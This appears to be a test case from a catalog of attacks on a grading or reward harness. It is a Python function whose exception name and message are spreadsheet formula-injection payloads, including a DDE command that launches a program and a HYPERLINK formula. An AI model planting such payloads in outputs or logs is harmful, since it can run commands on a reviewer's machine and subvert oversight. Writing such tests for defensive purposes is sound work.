# attack: An error's message is a formula for a spreadsheet.
# group: readers
# deserves: 8

# %% cell: informative_groups
class _(Exception):
    pass


_.__name__ = _.__qualname__ = "=cmd|' /C calc'!A0"


def informative_groups(rewards, G):
    print("=1+1")
    raise _("=HYPERLINK(\"http://192.0.2.1\")\n=1+1\n@SUM(1)\n\t=1")
